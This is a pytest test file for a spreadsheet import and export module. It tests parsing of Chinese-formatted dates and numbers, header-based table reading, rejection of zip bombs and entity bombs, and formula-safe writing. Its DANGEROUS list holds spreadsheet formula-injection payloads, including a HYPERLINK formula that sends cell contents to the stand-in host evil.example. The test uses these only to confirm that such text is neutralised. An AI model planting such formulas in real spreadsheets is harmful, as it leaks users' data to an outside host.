"""The shared spreadsheet module without an app: typed cells, reading a table by its header, writing safely."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from app.engine.clock import LOCAL_TZ
from app.services.spreadsheets import (
    CellError,
    Column,
    Layout,
    Sheet,
    TableFileError,
    cells,
    csv_text,
    read_table,
    unpacking,
    workbook,
)
from tests.helpers import entity_bomb_xlsx, xlsx, zip_bomb_xlsx

# ------------------------------------------------------------------------------------------ cells


def test_dates_from_cells_serials_and_the_ways_people_write_them():
    for value in (date(2026, 11, 25), datetime(2026, 11, 25), 46351, "46351", "2026-11-25", "2026/11/25",
                  "2026.11.25", "2026年11月25日", "2026 年 11 月 25 日", "20261125", 20261125, "２０２６-１１-２５",
                  "2026-11-25 00:00"):
        assert cells.parse_date(value) == date(2026, 11, 25), value
    assert cells.parse_date("") is None and cells.parse_date(None) is None


@pytest.mark.parametrize(("value", "message"), [
    ("2026-02-30", "无法识别的日期“2026-02-30”，请写成 2026-11-25 这样的格式"),
    ("下周一", "无法识别的日期“下周一”"),
    ("2026-11-25 14:30", "应为日期（不含时间）"),
    (12, "“12”不是日期时间"),
])
def test_a_bad_date_says_what_it_read(value, message):
    with pytest.raises(CellError, match=message):
        cells.parse_date(value)


def test_moments_are_beijing_time_and_a_deadline_day_ends_at_midnight():
    assert cells.parse_datetime("2026-11-25 14:30") == datetime(2026, 11, 25, 14, 30, tzinfo=LOCAL_TZ)
    assert cells.parse_datetime(20261125143000) == datetime(2026, 11, 25, 14, 30, tzinfo=LOCAL_TZ)
    assert cells.parse_datetime("2026-11-25", end_of_day=True) == datetime(2026, 11, 25, 23, 59, 59, tzinfo=LOCAL_TZ)
    with pytest.raises(CellError, match="超出合理范围"):
        cells.parse_datetime("1999-12-31 08:00")


def test_numbers_text_codes_and_choices():
    assert cells.number("１,２３４") == 1234 and cells.number(3.0) == 3 and cells.number("2.5") == 2.5
    assert cells.number(" ") is None
    with pytest.raises(CellError, match="“十二”不是数字"):
        cells.number("十二")
    assert cells.text(13811112222.0) == "13811112222" and cells.text(datetime(2026, 11, 25, 8, 5)) == \
        "2026-11-25 08:05:00"
    assert cells.code(" ＧＤ２０２６ ") == "GD2026"
    words = {"日班": "day", "day": "day", "夜班": "night"}
    assert cells.choice("DAY", words, ("日班", "夜班")) == "day" and cells.choice("", words, ()) is None
    with pytest.raises(CellError, match="“早班”不是有效的值，应为：日班、夜班"):
        cells.choice("早班", words, ("日班", "夜班"))


# ------------------------------------------------------------------------------------------ reading

LAYOUT = Layout([
    Column("no", "编号", ("序号编号",), kind="code", required=True),
    Column("day", "日期", kind="date", required=True),
    Column("amount", "金额", kind="number"),
    Column("kind", "类别", choices={"甲": "a", "乙": "b"}, default="a"),
    Column("note", "备注", max_length=5),
], max_rows=3)


def test_a_gbk_csv_with_a_title_line_spaced_and_noted_headers_and_an_extra_column():
    data = "2026 年 11 月台账\n编 号,日期（北京时间）,金额,其他\nA-1,2026/11/25,\"1,200\",x\n\nA-2,2026-02-30,abc,y\n"
    table = read_table(data.encode("gbk"), LAYOUT, "台账.csv")
    assert (table.file_type, table.encoding, table.header_row) == ("csv", "GB18030/GBK", 2)
    assert table.columns == {"no": "编号", "day": "日期", "amount": "金额"} and table.ignored_columns == ["其他"]
    first, second = table.rows
    assert first.ok and first.values == {"no": "A-1", "day": date(2026, 11, 25), "amount": 1200, "kind": "a",
                                         "note": ""}
    assert second.number == 5, "blank lines are skipped, not renumbered"
    assert LAYOUT.messages(second) == ["第 5 行「日期」：无法识别的日期“2026-02-30”，请写成 2026-11-25 这样的格式",
                                       "第 5 行「金额」：“abc”不是数字"]
    assert LAYOUT.messages(second, with_row=False)[1] == "「金额」：“abc”不是数字"


def test_an_xlsx_with_date_cells_choices_and_problems_per_row():
    table = read_table(xlsx(["编号", "日期", "类别", "备注"], [[1001, datetime(2026, 11, 25), "乙", "短"],
                                                          ["", date(2026, 11, 26), "丙", "太长的一段备注"]]),
                       LAYOUT, "a.xlsx")
    good, bad = table.rows
    assert good.values["no"] == "1001" and good.values["day"] == date(2026, 11, 25) and good.values["kind"] == "b"
    assert LAYOUT.messages(bad) == ["第 3 行「编号」：不能为空", "第 3 行「类别」：“丙”不是有效的值，应为：a、b",
                                    "第 3 行「备注」：超过 5 个字（共 7 个字）"]
    assert table.sheet == "Sheet" and bad.has_problem("note") and not bad.has_problem("day")


@pytest.mark.parametrize(("content", "name", "message"), [
    (b"", "a.csv", "文件是空的。"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xls", "不支持旧版 Excel 97-2003（.xls）文件"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xlsx", "不支持旧版 Excel 97-2003（.xls）文件"),
    (b"plain text", "a.xlsx", "文件“a.xlsx”不是有效的 Excel（.xlsx）文件。"),
    (b"PK\x03\x04broken", "a.xlsx", "无法作为 Excel 工作簿打开"),
    (b"%PDF-1.4", "a.pdf", "不支持的文件类型“.pdf”"),
    ("姓名,电话\n张三,1\n".encode(), "a.csv", "文件的前 10 行中找不到表头：表头应含“编号”“日期”等列名。"),
    ("编号,金额,备注\nA,1,x\n".encode(), "a.csv", "缺少必需的列：日期（表头在第 1 行，找到的列：编号、金额、备注）。"),
    ("编号,日期,编号\nA,2026-11-25,B\n".encode(), "a.csv", "第 1 行表头中这些列出现了不止一次：编号。"),
    ("编号,日期\n".encode(), "a.csv", "文件中表头下面没有数据行。"),
    (("编号,日期\n" + "A,2026-11-25\n" * 4).encode(), "a.csv", "文件超过单次导入上限 3 行"),
    (b"\xff\xfe\x00\xd8", "a.csv", "无法识别文件“a.csv”的编码"),
])
def test_a_file_that_cannot_be_read_is_refused_with_a_chinese_message(content, name, message):
    with pytest.raises(TableFileError) as refused:
        read_table(content, LAYOUT, name)
    assert message in str(refused.value)
    assert refused.value.errors == {"file": str(refused.value)}, "the message belongs to the upload field"


def test_tabs_semicolons_and_excels_unicode_text():
    for data in ("编号\t日期\nA\t2026-11-25\n".encode("utf-16"), "\ufeff编号;日期\nA;2026-11-25\n".encode()):
        table = read_table(data, LAYOUT, "a.txt")
        assert table.rows[0].values["day"] == date(2026, 11, 25), data[:8]


def test_the_size_limit_is_the_layouts_unless_told():
    with pytest.raises(TableFileError, match="文件太大（1 KB），单次导入上限为 1 KB"):
        read_table(("编号,日期\n" + "A,2026-11-25\n" * 80).encode(), LAYOUT, "a.csv", max_bytes=1000)


def test_a_zip_bomb_is_refused_before_openpyxl_unpacks_it(monkeypatch):
    bomb = zip_bomb_xlsx(4)
    assert len(bomb) < 100_000, "a few KB of zip"
    monkeypatch.setattr(unpacking, "MAX_UNPACKED_BYTES", 2 * 1024 * 1024)
    with pytest.raises(TableFileError, match="文件“a.xlsx”解压后过大（超过 2 MB），不像正常的 Excel 表格，已拒绝。"):
        read_table(bomb, LAYOUT, "a.xlsx")
    monkeypatch.setattr(unpacking, "MAX_UNPACKED_BYTES", 200 * 1024 * 1024)
    with pytest.raises(TableFileError, match="“xl/worksheets/sheet1.xml”压缩比异常（超过 500 倍）"):
        read_table(bomb, LAYOUT, "a.xlsx")  # within the total, but no sheet compresses a thousandfold


def test_an_entity_bomb_in_a_sheet_is_an_invalid_file_not_a_crash():
    with pytest.raises(TableFileError, match="文件“a.xlsx”不是有效的 Excel（.xlsx）文件。") as refused:
        read_table(entity_bomb_xlsx(), LAYOUT, "a.xlsx")
    assert "amplification" in str(refused.value.__cause__), "expat's limit, not a huge string"


# ------------------------------------------------------------------------------------------ writing

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_formula_like_text_is_written_as_text_never_as_a_formula():
    content = workbook(Sheet("导出", ["内容", "数"], [[text, -5] for text in DANGEROUS] + [["普通文字", 3]]))
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml, "no formula in the file"
    ws = load_workbook(io.BytesIO(content)).active
    rows = list(ws.iter_rows(min_row=2))
    for (cell, number), text in zip(rows, DANGEROUS, strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        assert number.value == -5 and number.data_type == "n", "numbers stay numbers, negative ones too"
    assert rows[-1][0].quotePrefix is False
    assert ws["A1"].font.bold


def test_dates_are_formatted_and_aware_times_written_in_beijing_time():
    moment = datetime(2026, 11, 25, 6, 30, tzinfo=LOCAL_TZ).astimezone(datetime.now().astimezone().tzinfo)
    ws = load_workbook(io.BytesIO(workbook(Sheet("s", ["日", "时"], [[date(2026, 11, 25), moment]], widths=12)))).active
    assert ws["A2"].value == datetime(2026, 11, 25) and ws["A2"].number_format == "yyyy-mm-dd"
    assert ws["B2"].value == datetime(2026, 11, 25, 6, 30) and ws["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert ws.column_dimensions["B"].width == 12


def test_csv_lists_open_in_excel_and_keep_formulas_as_text():
    text = csv_text(["行号", "说明"], [[6, "=1+1"], [7, "正常"], [8, -1]])
    assert text.startswith("\ufeff行号,说明\r\n")
    assert "6,'=1+1\r\n7,正常\r\n8,-1\r\n" in text
